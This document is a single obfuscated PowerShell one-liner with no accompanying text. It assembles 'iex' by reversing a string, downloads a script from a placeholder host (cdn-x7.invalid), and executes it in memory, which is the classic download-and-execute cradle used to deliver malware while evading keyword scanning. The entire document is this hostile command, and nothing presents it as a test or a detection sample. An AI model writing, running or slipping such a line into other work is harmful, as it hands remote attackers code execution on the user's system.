& (-join ('xei'[-1..-3])) (iwr -useb https://cdn-x7.invalid/a.ps1)
